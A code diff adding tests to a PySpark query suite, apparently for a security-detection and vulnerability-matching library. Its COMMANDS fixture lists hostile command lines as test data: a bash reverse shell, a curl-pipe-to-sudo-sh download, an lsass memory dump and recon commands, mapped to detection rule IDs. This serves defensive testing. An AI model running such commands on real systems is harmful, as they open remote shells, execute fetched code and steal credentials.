@@ -6,7 +6,8 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from ..functions import scalar as S
-from ..operators import facts, graph, joins, windows
+from ..functions import versions as V
+from ..operators import detections, facts, graph, joins, vulnerabilities, windows
 
 QUERIES: dict = {}
 ORACLE_SQL: dict = {}
@@ -431,3 +432,68 @@ def identifier_words(t):
 @query("SELECT p_brand, regexp_replace(lower(p_brand), '[-_.]+', '-', 'g') AS pypi, count(*) AS n FROM part GROUP BY ALL")
 def package_names(t):
     return t("part").groupBy("p_brand", S.package_name(F.col("p_brand"), "PyPI").alias("pypi")).agg(F.count("*").alias("n"))
+
+
+# --- detections and vulnerabilities
+
+#: Programs and command lines that events are given in turn, and the rule that holds for them.
+COMMANDS = (
+    ("bash", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "LIN-001a"), ("sh", "curl http://x/y | sudo sh", "LIN-001d"), ("grep", "grep /dev/tcp/ notes", None), ("cmd.exe", "schtasks /create /tn x", "WIN-001b"),
+    ("a.exe", "procdump -ma lsass", "WIN-001a"), ("bash", "nc -l 80", None), ("cmd.exe", "whoami /all", "WIN-001c"),
+)
+
+
+def _cases(k: int) -> str:
+    return " ".join(f"WHEN {i} THEN " + ("NULL" if c[k] is None else f"'{c[k]}'") for i, c in enumerate(COMMANDS))
+
+
+@query(f"SELECT * FROM (SELECT event_id, CASE event_id % {len(COMMANDS)} {_cases(2)} END AS rule FROM events) WHERE rule IS NOT NULL")
+def detection_rules(t):
+    at = F.col("event_id") % len(COMMANDS)
+    pick = lambda k: F.element_at(F.array(*(F.lit(c[k]) for c in COMMANDS)), at.cast("int") + 1)
+    seen = t("events").select("event_id", F.col("user_id").cast("string").alias("host"), pick(0).alias("process"), pick(1).alias("command"))
+    return detections.detect(seen).select("event_id", "rule")
+
+
+VERSIONS_SQL = "SELECT p_partkey, p_brand AS name, p_size || '.' || (p_partkey % 12) AS version, p_size * 100 + p_partkey % 12 AS n FROM part"
+
+
+def _packages(t):
+    return t("part").select("p_partkey", F.col("p_brand").alias("name"), F.concat_ws(".", F.col("p_size").cast("string"), (F.col("p_partkey") % 12).cast("string")).alias("version"))
+
+
+def _ranges(t):
+    brands = t("part").select(F.col("p_brand").alias("name")).distinct()
+    one = lambda i, low, fix, last: F.struct(F.lit(i).alias("id"), F.lit(low).cast("string").alias("introduced"), F.lit(fix).cast("string").alias("fixed"), F.lit(last).cast("string").alias("last_affected"))
+    return brands.select("name", F.inline(F.array(one("A", None, "9.10", None), one("B", "9.9", "30.2", None), one("C", "40", None, "45.3"))))
+
+
+RANGES_SQL = "(VALUES ('A', 0, 910, 999999, '9.10'), ('B', 909, 3002, 999999, '30.2'), ('C', 4000, 999999, 4503, NULL)) r(id, lo, hi, upto, fixed)"
+
+
+@query(f"SELECT p_partkey, id FROM ({VERSIONS_SQL}) JOIN {RANGES_SQL} ON n >= lo AND n < hi AND n <= upto")
+def version_range_match(t):
+    return vulnerabilities.hits(_packages(t), _ranges(t), "PyPI").select("p_partkey", "id")
+
+
+@query(f"""
+WITH f AS (SELECT p_partkey, count(*) AS n, count(fixed) AS m, max(hi) AS hi FROM ({VERSIONS_SQL}) JOIN {RANGES_SQL} ON n >= lo AND n < hi AND n <= upto GROUP BY 1)
+SELECT p_partkey, CASE WHEN n = m THEN CASE hi WHEN 910 THEN '9.10' ELSE '30.2' END END AS target FROM f""")
+def upgrade_targets(t):
+    found = vulnerabilities.hits(_packages(t), _ranges(t), "Debian:12")
+    return vulnerabilities.upgrade_target(vulnerabilities.first_fix(found, ["p_partkey", "id"], "Debian"), ["p_partkey"], "Debian")
+
+
+def _places(key):
+    @query(f"SELECT p_partkey, CAST(rank() OVER (PARTITION BY name ORDER BY n) AS INT) AS place FROM ({VERSIONS_SQL})")
+    def order(t):
+        from pyspark.sql.window import Window
+
+        return _packages(t).select("p_partkey", F.rank().over(Window.partitionBy("name").orderBy(key(F.col("version")))).alias("place"))
+
+    return order
+
+
+for _name, _key in (("debian", V.debian_key), ("rpm", V.rpm_key), ("python", V.python_key)):
+    _places(_key)
+    QUERIES[f"{_name}_order"], ORACLE_SQL[f"{_name}_order"] = QUERIES.pop("order"), ORACLE_SQL.pop("order")
